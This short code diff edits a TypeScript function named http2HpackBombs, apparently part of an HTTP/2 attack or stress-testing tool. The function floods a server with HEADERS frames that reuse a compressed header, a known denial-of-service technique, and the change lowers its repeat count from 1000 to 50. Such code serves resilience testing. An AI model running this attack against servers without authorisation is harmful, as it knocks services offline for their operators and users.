@@ -17,7 +17,7 @@ export function http2HpackBombs(options: AttackOptions): Promise<void> {
     async (socket) => {
       await write(socket, Buffer.concat([preface, frame(frameType.headers, both, 1, define)]));
       let stream = 3;
-      await repeat(socket, 1000, () => {
+      await repeat(socket, 50, () => {
         const sent = write(socket, frame(frameType.headers, both, stream, refer));
         stream += 2;
         return sent;
